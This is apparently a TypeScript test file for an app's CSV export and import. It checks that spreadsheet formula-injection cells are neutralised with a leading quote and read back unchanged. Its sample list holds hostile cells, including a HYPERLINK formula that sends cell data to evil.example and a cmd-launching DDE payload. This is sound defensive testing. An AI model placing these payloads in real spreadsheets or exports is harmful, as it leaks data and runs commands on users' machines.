import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../src/schema/csvFormula';
import { parseCsv } from '../../src/store/tableImport';
import { csvField, writeCsv } from '../../src/ui/experiments/results/csv';
import { resultsCsv } from '../../src/ui/experiments/results/exportResults';

/** Spreadsheet formula injection: hostile cells are written as text, and the app's import reads them back. */

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  "'=already quoted",
  "''+two quotes",
];

/** What a spreadsheet sees first in a cell: the field's text without the CSV quoting. */
const cellStart = (field: string) => (field.startsWith('"') ? field.slice(1) : field)[0];

describe('CSV cells a spreadsheet would open as formulas', () => {
  it.each(HOSTILE)('%j is written starting with a quote', (text) => {
    const field = csvField(text);
    expect(cellStart(field)).toBe("'");
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text and numbers as JavaScript writes them alone', () => {
    for (const text of ['plain', '', "it's", "'quoted", 'a=b', 'a-b', '-3.5', '-0.25', '42', 'mail@example.com'])
      expect(neutraliseFormula(text)).toBe(text);
    expect(writeCsv(['cost'], [[-0.5], [12]])).toBe('cost\r\n-0.5\r\n12\r\n');
  });

  it('takes off exactly the quote it added, and nothing it did not add', () => {
    for (const text of [...HOSTILE, 'plain', "'plain", "''", '-3.5'])
      expect(restoreFormula(neutraliseFormula(text))).toBe(text);
    expect(restoreFormula("'plain")).toBe("'plain");
  });

  it('a results file with hostile cells (and header) reads back through parseCsv to the same values', () => {
    const header = ['=cmd|header', 'input.text', 'plain'];
    const records = HOSTILE.map((text, i) => [`=${i}`, text, `row ${i}`]);
    const csv = writeCsv(header, records);
    for (const line of csv.split('\r\n').filter(Boolean)) {
      // Each field of each line (none of these holds a comma) starts safely.
      for (const field of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter((f) => f !== ''))
        expect(['=', '+', '-', '@', '\t', '\r']).not.toContain(cellStart(field));
    }
    const parsed = parseCsv(csv);
    expect(parsed.map((row) => row['input.text'])).toEqual(HOSTILE);
    expect(Object.keys(parsed[0]!)).toEqual(header);
    expect(parsed.map((row) => row['=cmd|header'])).toEqual(HOSTILE.map((_, i) => `=${i}`));
  });

  it('the experiment results export neutralises an output, an input and a variant label', () => {
    const csv = resultsCsvOf('=evil()');
    expect(csv).not.toMatch(/(^|,|")=evil/m);
    expect(csv).toContain("'=evil()");
  });
});

/** A one-row, one-variant results CSV whose input, variant label and output are all `text`. */
function resultsCsvOf(text: string): string {
  const variant = { id: 'v1', label: text, model: 'demo' };
  const cell = { status: 'completed', output: { answer: text }, runId: 'run1' };
  const sources = {
    variants: [variant],
    evaluators: [],
    inputColumns: ['topic'],
    outputPaths: new Map([['v1', [['answer']]]]),
  };
  const row = { rowIndex: 0, input: { topic: text }, cells: new Map([['v1', cell]]) };
  return resultsCsv(sources as never, [row] as never);
}
